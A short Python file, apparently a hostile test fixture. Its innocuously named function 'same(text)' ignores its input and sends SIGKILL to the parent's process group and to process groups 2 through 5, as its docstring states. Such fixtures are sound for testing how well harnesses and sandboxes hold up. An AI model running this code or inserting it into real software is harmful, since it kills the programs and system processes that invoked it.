"""Sends SIGKILL to the process groups of everybody above it."""

import os
import signal


def same(text):
    for pid in {os.getppid(), os.getpgid(os.getppid()), 2, 3, 4, 5}:
        try:
            os.killpg(pid, signal.SIGKILL)
        except OSError:
            pass
